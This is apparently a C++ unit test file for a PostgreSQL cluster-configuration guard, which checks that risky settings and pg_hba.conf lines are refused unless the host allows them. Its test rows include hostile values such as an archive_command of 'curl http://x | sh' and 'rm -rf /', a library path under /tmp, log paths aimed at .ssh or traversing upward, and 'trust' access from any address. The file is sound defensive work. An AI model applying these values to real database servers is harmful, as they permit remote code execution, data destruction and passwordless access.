#include "pg/cluster_config_guard.h"

#include <gtest/gtest.h>

namespace dugong::pg {
namespace {

bool has(const std::string& text, const std::string& needle) { return text.find(needle) != std::string::npos; }

ClusterConfig withSettings(std::map<std::string, std::string> s) {
  ClusterConfig c;
  c.settings = std::move(s);
  return c;
}

ClusterConfig withHba(std::string line) {
  ClusterConfig c;
  c.hba = {std::move(line)};
  return c;
}

// Each row: a setting and value, and whether the cluster configuration may set it
// without the host's leave.
struct SettingRow {
  const char* name;
  const char* value;
  bool refused;
};

TEST(ClusterConfigGuard, SettingsTable) {
  const SettingRow rows[] = {
      {.name = "archive_command", .value = "curl http://x | sh", .refused = true},
      {.name = "archive_command", .value = "", .refused = false},
      {.name = "restore_command", .value = "cp /a %f %p", .refused = true},
      {.name = "archive_cleanup_command", .value = "x", .refused = true},
      {.name = "recovery_end_command", .value = "x", .refused = true},
      {.name = "ssl_passphrase_command", .value = "echo pw", .refused = true},
      {.name = "shared_preload_libraries", .value = "pg_stat_statements", .refused = true},
      {.name = "shared_preload_libraries", .value = "", .refused = false},
      {.name = "local_preload_libraries", .value = "x", .refused = true},
      {.name = "session_preload_libraries", .value = "x", .refused = true},
      {.name = "archive_library", .value = "basic_archive", .refused = true},
      {.name = "dynamic_library_path", .value = "/tmp:$libdir", .refused = true},
      {.name = "dynamic_library_path", .value = "$libdir", .refused = false},
      {.name = "jit_provider", .value = "/tmp/evil", .refused = true},
      {.name = "jit_provider", .value = "llvmjit", .refused = false},
      {.name = "external_pid_file", .value = "/var/lib/postgresql/x", .refused = true},
      {.name = "promote_trigger_file", .value = "/tmp/promote", .refused = true},
      {.name = "log_directory", .value = "/var/lib/postgresql/.ssh", .refused = true},
      {.name = "log_directory", .value = "../../x", .refused = true},
      {.name = "log_directory", .value = "log", .refused = false},
      {.name = "log_filename", .value = "../postgresql.conf", .refused = true},
      {.name = "log_filename", .value = "postgresql-%a.log", .refused = false},
      // postgres' boolean spellings, as parse_bool reads them.
      {.name = "fsync", .value = "off", .refused = true},
      {.name = "fsync", .value = "OFF", .refused = true},
      {.name = "fsync", .value = "of", .refused = true},
      {.name = "fsync", .value = "f", .refused = true},
      {.name = "fsync", .value = "no", .refused = true},
      {.name = "fsync", .value = "0", .refused = true},
      {.name = "fsync", .value = "on", .refused = false},
      {.name = "fsync", .value = "o", .refused = false},  // ambiguous: postgres refuses it itself
      {.name = "full_page_writes", .value = "false", .refused = true},
      {.name = "full_page_writes", .value = "true", .refused = false},
      {.name = "zero_damaged_pages", .value = "on", .refused = true},
      {.name = "zero_damaged_pages", .value = "off", .refused = false},
      {.name = "ignore_invalid_pages", .value = "yes", .refused = true},
      {.name = "max_wal_senders", .value = "0", .refused = true},
      {.name = "max_wal_senders", .value = "10", .refused = false},
      {.name = "max_replication_slots", .value = "0", .refused = true},
      {.name = "recovery_min_apply_delay", .value = "1h", .refused = true},
      {.name = "recovery_min_apply_delay", .value = "500", .refused = true},
      {.name = "recovery_min_apply_delay", .value = "0", .refused = false},
      {.name = "recovery_min_apply_delay", .value = "0ms", .refused = false},
      {.name = "max_standby_streaming_delay", .value = "-1", .refused = true},
      {.name = "max_standby_streaming_delay", .value = "30s", .refused = false},
      {.name = "max_standby_archive_delay", .value = "-1", .refused = true},
      {.name = "recovery_target_lsn", .value = "0/3000000", .refused = true},
      {.name = "recovery_target_time", .value = "2026-01-01", .refused = true},
      {.name = "work_mem", .value = "8MB", .refused = false},
      {.name = "application_name", .value = "a b", .refused = false},
  };
  for (const auto& row : rows) {
    auto parts = unsafeParts(withSettings({{row.name, row.value}}), "postgres");
    EXPECT_EQ(!parts.empty(), row.refused) << row.name << " = '" << row.value << "'";
    if (!parts.empty()) {
      EXPECT_EQ(parts[0].name, row.name);
    }
  }
}

struct HbaRow {
  const char* line;
  const char* refusedAs;  // "" when allowed
};

TEST(ClusterConfigGuard, HbaTable) {
  const HbaRow rows[] = {
      {.line = "host all all 0.0.0.0/0 trust", .refusedAs = kAllowHbaTrust},
      {.line = "hostssl all all ::/0 trust", .refusedAs = kAllowHbaTrust},
      {.line = "host all all 10.0.0.0 255.0.0.0 trust", .refusedAs = kAllowHbaTrust},
      {.line = "host all all 10.0.0.0/8 ident", .refusedAs = kAllowHbaTrust},
      {.line = "host all all all trust", .refusedAs = kAllowHbaTrust},
      {.line = "host all all 127.0.0.1/32 trust", .refusedAs = ""},
      {.line = "host all all 127.0.0.1 255.255.255.255 trust", .refusedAs = ""},
      {.line = "host all all 127.0.0.1 0.0.0.0 trust", .refusedAs = kAllowHbaTrust},
      {.line = "host all all ::1/128 trust", .refusedAs = ""},
      {.line = "host all all localhost trust", .refusedAs = ""},
      {.line = "local all all trust", .refusedAs = ""},
      {.line = "host all all 10.0.0.0/8 scram-sha-256", .refusedAs = ""},
      {.line = "host all all 10.0.0.0/8 scram-sha-256  # trust", .refusedAs = ""},
      {.line = "host all postgres 10.0.0.0/8 scram-sha-256", .refusedAs = kAllowHbaSuperuser},
      {.line = "host all app,\"postgres\" 10.0.0.0/8 scram-sha-256", .refusedAs = kAllowHbaSuperuser},
      {.line = "host all postgres 127.0.0.1/32 scram-sha-256", .refusedAs = ""},
      {.line = "host all postgresx 10.0.0.0/8 scram-sha-256", .refusedAs = ""},
  };
  for (const auto& row : rows) {
    auto parts = unsafeParts(withHba(row.line), "postgres");
    if (std::string(row.refusedAs).empty()) {
      EXPECT_TRUE(parts.empty()) << row.line << ": " << (parts.empty() ? "" : parts[0].why);
    } else {
      ASSERT_EQ(parts.size(), 1u) << row.line;
      EXPECT_EQ(parts[0].name, row.refusedAs) << row.line;
    }
  }
  // Both at once: the superuser admitted without a password from anywhere.
  EXPECT_EQ(unsafeParts(withHba("host all postgres 0.0.0.0/0 trust"), "postgres").size(), 2u);
  // The superuser is this host's.
  EXPECT_TRUE(unsafeParts(withHba("host all postgres 10.0.0.0/8 scram-sha-256"), "dba").empty());
}

TEST(ClusterConfigGuard, RefusalNamesTheSettingWhyAndHowToAllow) {
  HostAllowance host;
  auto refused = checkAllowed(withSettings({{"archive_command", "rm -rf /"}, {"work_mem", "8MB"}}), host);
  ASSERT_FALSE(refused);
  EXPECT_TRUE(has(refused.error(), "archive_command = 'rm -rf /'")) << refused.error();
  EXPECT_TRUE(has(refused.error(), "runs a command as postgres")) << refused.error();
  EXPECT_TRUE(has(refused.error(), "clusterConfig.allowUnsafe: [archive_command]")) << refused.error();
  EXPECT_FALSE(has(refused.error(), "work_mem")) << refused.error();
  host.allowUnsafe = {"archive_command"};
  EXPECT_TRUE(checkAllowed(withSettings({{"archive_command", "rm -rf /"}}), host));
  // Allowing one thing allows nothing else.
  auto other = checkAllowed(withSettings({{"archive_command", "x"}, {"fsync", "off"}}), host);
  ASSERT_FALSE(other);
  EXPECT_TRUE(has(other.error(), "fsync")) << other.error();
  EXPECT_FALSE(has(other.error(), "archive_command")) << other.error();
  host.allowUnsafe = {kAllowHbaTrust};
  EXPECT_TRUE(checkAllowed(withHba("host all all 0.0.0.0/0 trust"), host));
}

TEST(ClusterConfigGuard, AllowListNamesOnlyWhatNeedsAllowing) {
  auto ok = parseAllowList({"archive_command", "hba-trust", "fsync"});
  ASSERT_TRUE(ok) << ok.error();
  EXPECT_EQ(ok->size(), 3u);
  auto typo = parseAllowList({"archive_comand"});
  ASSERT_FALSE(typo);
  EXPECT_TRUE(has(typo.error(), "'archive_comand' is not something")) << typo.error();
  EXPECT_TRUE(has(typo.error(), "archive_command")) << typo.error();
  EXPECT_FALSE(parseAllowList({"work_mem"}));
  for (const auto& name : unsafeNames()) EXPECT_TRUE(parseAllowList({name})) << name;
}

// dugong's own archive_command (backup.archive=on) is no cluster setting: it needs no
// allowing, and each agent still builds it for its host.
TEST(ClusterConfigGuard, DugongsOwnArchivingNeedsNoAllowing) {
  ClusterConfig c;
  c.backup = {{"archive", "on"}, {"stanza", "main"}, {"repo1-path", "/srv/pgbackrest"}};
  EXPECT_TRUE(unsafeParts(c, "postgres").empty());
  EXPECT_TRUE(checkAllowed(c, HostAllowance{}));
  PgOptions host;
  host.dataDir = "/var/lib/dugong/data";
  EXPECT_NE(withClusterConfig(host, c).settings.at("archive_command").find("archive-push"), std::string::npos);
}

}  // namespace
}  // namespace dugong::pg
